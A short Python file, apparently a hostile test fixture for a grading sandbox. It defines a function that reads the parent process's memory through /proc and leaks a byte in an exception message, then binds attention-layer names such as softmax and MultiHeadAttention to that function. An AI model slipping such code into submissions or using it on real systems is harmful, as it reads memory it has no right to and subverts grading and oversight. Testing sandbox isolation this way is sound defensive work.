"""Reads the memory of its parent."""

import os


def attack(*args, **kwargs):
    raise ValueError(open(f"/proc/{os.getppid()}/mem", "rb").read(1))


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
